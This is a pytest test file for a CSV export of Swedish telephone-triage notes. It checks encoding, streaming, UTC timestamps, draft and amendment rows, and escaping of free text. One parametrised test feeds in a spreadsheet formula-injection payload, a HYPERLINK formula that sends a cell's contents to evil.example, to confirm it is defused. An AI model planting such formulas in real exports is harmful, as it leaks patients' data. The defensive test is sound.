"""journal.csv_export: notes as ";"-separated UTF-8 CSV for Swedish Excel, read back with `csv.reader`."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from personnummer import personnummer

from journal.csv_export import COLUMNS, notes_csv, safe_cell
from journal.records import CallerRelation, NoteContent, NoteRecord, NoteStatus, PatientIdKind

PNR = "194107086995"
SAMNR = "199007721237"


def make_note(note_id: str = "5f0c2a1e9b7d4c3aa1e2b3c4d5e6f701", **content: Any) -> NoteRecord:
    fields: dict[str, Any] = dict(
        caller_relation=CallerRelation.SELF, patient_id_kind=PatientIdKind.PERSONNUMMER, patient_id=PNR,
        patient_name="Gunnar Åberg", contact_reason="buksmarta", urgency="akut",
        advice="Åk till akutmottagningen nu; ta inte bilen själv.", referral="akutmottagning",
        referral_text="Akuten Södersjukhuset", text="Ont i höger fossa sedan i morse.",
    )
    fields.update(content)
    return NoteRecord(
        id=note_id, call_id="c-20240301-0002", status=NoteStatus.SIGNED, revision=2, amends_note_id=None,
        care_provider_id=7, care_provider_name="Sjukvårdsrådgivningen Stockholm",
        care_provider_org_number="2321000016", region_id="01", author_username="sara.nilsson",
        author_name="Sara Nilsson", created_at=datetime(2024, 3, 1, 8, 2, tzinfo=UTC),
        updated_at=datetime(2024, 3, 1, 8, 20, tzinfo=UTC),
        signed_at=datetime(2024, 3, 1, 9, 21, 30, tzinfo=timezone(timedelta(hours=1))),  # 08:21:30 UTC
        call_started_at=datetime(2024, 3, 1, 8, 0, 12),  # naive: taken as UTC
        call_ended_at=datetime(2024, 3, 1, 8, 14, 40, 999999, tzinfo=UTC),
        content=NoteContent(**fields),
    )


def read_back(chunks: Iterator[str]) -> list[dict[str, str]]:
    text = "".join(chunks)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert rows[0] == list(COLUMNS)
    assert all(len(r) == len(COLUMNS) for r in rows)
    return [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]


def test_bom_and_header_come_first() -> None:
    """The first chunk is the UTF-8 BOM and the header (Excel's encoding detection), ";"-separated."""
    first = next(notes_csv([]))
    assert first == "\ufeff" + ";".join(COLUMNS) + "\r\n"
    data = "".join(notes_csv([make_note()])).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Åberg" not in data.decode("utf-8-sig")  # the patient's name is not a column
    assert "Sjukvårdsrådgivningen" in data.decode("utf-8-sig")


def test_one_chunk_per_note_streamed() -> None:
    """Header first, then one chunk per note, produced lazily as the notes are consumed."""
    consumed: list[str] = []

    def notes() -> Iterator[NoteRecord]:
        for i in range(3):
            consumed.append(str(i))
            yield make_note(f"note{i}")

    chunks = notes_csv(notes())
    next(chunks)
    assert consumed == []
    assert len(list(chunks)) == 3
    assert consumed == ["0", "1", "2"]


def test_values_names_and_utc_times() -> None:
    """A row carries the codes with their Swedish names and the times in ISO 8601 UTC."""
    assert personnummer.valid(PNR)
    [row] = read_back(notes_csv([make_note()]))
    assert row["note_id"] == "5f0c2a1e9b7d4c3aa1e2b3c4d5e6f701"
    assert row["status"] == "signed"
    assert row["amends_note_id"] == ""
    assert row["care_provider"] == "Sjukvårdsrådgivningen Stockholm"
    assert row["region"] == "01"
    assert row["author_username"] == "sara.nilsson"
    assert row["call_started_at"] == "2024-03-01T08:00:12Z"
    assert row["call_ended_at"] == "2024-03-01T08:14:40Z"
    assert row["signed_at"] == "2024-03-01T08:21:30Z"
    assert (row["patient_id_kind"], row["patient_id"]) == ("personnummer", PNR)
    assert row["caller_relation"] == "själv"
    assert (row["contact_reason"], row["contact_reason_sv"]) == ("buksmarta", "Buksmärta")
    assert (row["urgency"], row["urgency_sv"]) == ("akut", "Akut: akutmottagning nu")
    assert (row["referral"], row["referral_sv"]) == ("akutmottagning", "Akutmottagning")
    assert row["advice"] == "Åk till akutmottagningen nu; ta inte bilen själv."


def test_draft_and_amendment_rows() -> None:
    """Drafts and amendments are rows too (status and amends say which); empty fields stay empty."""
    original = make_note()
    draft = replace(original, id="d1", status=NoteStatus.DRAFT, amends_note_id=original.id, signed_at=None,
                    call_ended_at=None, content=NoteContent(patient_id_kind=PatientIdKind.SAMORDNINGSNUMMER,
                                                            patient_id=SAMNR, referral="kat-0042"))
    rows = read_back(notes_csv([original, draft]))
    assert rows[1]["status"] == "draft"
    assert rows[1]["amends_note_id"] == original.id
    assert rows[1]["signed_at"] == rows[1]["call_ended_at"] == ""
    assert (rows[1]["patient_id_kind"], rows[1]["patient_id"]) == ("samordningsnummer", SAMNR)
    assert rows[1]["urgency_sv"] == rows[1]["contact_reason_sv"] == rows[1]["caller_relation"] == ""
    assert (rows[1]["referral"], rows[1]["referral_sv"]) == ("kat-0042", "")


def test_round_trip_with_newlines_semicolons_and_quotes() -> None:
    """Free text with line breaks, ";", quotes and CRLF comes back unchanged in its one cell."""
    text = 'Rad ett; med semikolon.\nRad två med "citat".\r\nRad tre, med komma.'
    referral_text = "Vårdcentralen Gripen;\nring 08-123 45 67"
    [row] = read_back(notes_csv([make_note(text=text, referral_text=referral_text)]))
    assert row["text"] == text
    assert row["referral_text"] == referral_text


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?d="&A1;"klicka")', "+46701234567", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1",
])
def test_formula_injection_is_defused(value: str) -> None:
    """A cell that Excel would evaluate as a formula gets a leading apostrophe, the rest unchanged."""
    [row] = read_back(notes_csv([make_note(advice=value, text=value, referral_text=value)]))
    assert row["advice"] == row["text"] == row["referral_text"] == "'" + value


def test_harmless_cells_are_untouched() -> None:
    """Only the first character counts: an "=" inside the text, or a leading apostrophe, stays as it was."""
    assert safe_cell("a = b") == "a = b"
    assert safe_cell("'redan text") == "'redan text"
    assert safe_cell("") == ""
    assert safe_cell("-") == "'-"
